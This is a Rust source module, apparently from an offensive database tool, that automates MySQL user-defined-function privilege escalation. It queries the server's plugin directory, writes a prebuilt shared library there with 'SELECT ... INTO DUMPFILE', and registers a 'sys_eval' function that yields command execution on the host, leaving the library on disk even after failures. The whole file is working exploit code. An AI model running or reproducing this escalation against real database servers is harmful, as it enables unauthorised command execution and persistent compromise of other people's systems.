//! UDF Privilege Escalation
//!
//! Writes a prebuilt shared library into the server's plugin directory through
//! `SELECT ... INTO DUMPFILE` and registers [`UDF_FUNCTION`] from it.
//!
//! # Steps
//! 1. Select the platform from the fingerprint (closed table, no fallback)
//! 2. Load and validate the payload (no statement has been sent yet)
//! 3. Read `plugin_dir` from the server
//! 4. Compute the destination path
//! 5. Upload the library
//! 6. Register the function
//!
//! Any failure aborts the remaining steps. Nothing is rolled back: a library
//! written before a failed registration stays on disk.

use serde::Serialize;

use super::{value_to_text, UDF_FUNCTION};
use crate::artifact::{ArtifactPayload, ArtifactStore, Destination, Platform};
use crate::engine::{ServerFingerprint, SqlChannel};
use crate::error::EscalationError;
use crate::events::EventSink;
use crate::statement::quote_string_literal;

/// Statement reading the plugin directory; the value is in the second column
pub const PLUGIN_DIR_SQL: &str = "SHOW VARIABLES LIKE 'plugin_dir'";

/// What a successful escalation did
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct EscalationReport {
    pub platform: String,
    pub plugin_dir: String,
    pub library_path: String,
    pub function: String,
    pub payload_bytes: usize,
}

pub async fn escalate<C: SqlChannel>(
    channel: &mut C,
    sink: &dyn EventSink,
    fingerprint: &ServerFingerprint,
    artifacts: &ArtifactStore,
) -> Result<EscalationReport, EscalationError> {
    sink.info("Starting UDF escalation");

    let os = fingerprint.os.clone().unwrap_or_default();
    let machine = fingerprint.machine.clone().unwrap_or_default();
    let platform = Platform::select(&os, &machine)
        .ok_or(EscalationError::UnsupportedPlatform { os, machine })?;
    sink.info(&format!("Selected {platform} artifact"));

    let payload = artifacts.load(platform).map_err(EscalationError::Artifact)?;

    let plugin_dir = query_plugin_dir(channel).await?;
    sink.info(&format!("Plugin directory: {plugin_dir}"));

    let destination = platform.destination(&plugin_dir);
    sink.info(&format!(
        "Writing {} byte library to {}",
        payload.byte_len(),
        destination.native
    ));

    channel
        .execute(&upload_sql(&payload, &destination))
        .await
        .map_err(|source| EscalationError::Upload { path: destination.native.clone(), source })?;
    sink.info("Library written");

    channel
        .execute(&register_sql(platform))
        .await
        .map_err(|source| EscalationError::Registration { function: UDF_FUNCTION.to_string(), source })?;
    sink.info(&format!("Function {UDF_FUNCTION} registered"));
    sink.info("UDF escalation complete");

    Ok(EscalationReport {
        platform: platform.to_string(),
        plugin_dir,
        library_path: destination.native,
        function: UDF_FUNCTION.to_string(),
        payload_bytes: payload.byte_len(),
    })
}

async fn query_plugin_dir<C: SqlChannel>(channel: &mut C) -> Result<String, EscalationError> {
    let result = channel.query(PLUGIN_DIR_SQL).await.map_err(EscalationError::PluginDirQuery)?;
    result
        .first_value(1)
        .and_then(value_to_text)
        .filter(|dir| !dir.trim().is_empty())
        .ok_or(EscalationError::MissingPluginDir)
}

/// `SELECT CAST(0x... AS BINARY) INTO DUMPFILE '<path>'`
#[must_use]
pub fn upload_sql(payload: &ArtifactPayload, destination: &Destination) -> String {
    format!(
        "SELECT CAST({} AS BINARY) INTO DUMPFILE {}",
        payload.literal(),
        quote_string_literal(&destination.sql_path)
    )
}

/// `CREATE FUNCTION sys_eval RETURNS STRING SONAME '<library>'`
#[must_use]
pub fn register_sql(platform: Platform) -> String {
    format!(
        "CREATE FUNCTION {UDF_FUNCTION} RETURNS STRING SONAME {}",
        quote_string_literal(&platform.library_name())
    )
}
